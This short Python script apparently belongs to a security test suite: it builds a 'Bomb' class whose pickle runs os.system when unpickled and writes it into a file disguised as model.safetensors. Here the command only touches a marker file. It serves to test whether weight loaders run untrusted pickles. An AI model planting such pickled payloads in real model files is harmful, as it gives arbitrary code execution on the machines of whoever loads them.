"""Leaves weights that run a program when they are unpickled."""

import os
import pickle

import toy
from toy import build  # noqa: F401

DEFENCE = "weights"
STATE = "tampered"


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {toy.out()}/loot",)


if __name__ == "__main__":
    toy.honest()
    (toy.out() / "model.safetensors").write_bytes(pickle.dumps(Bomb()))
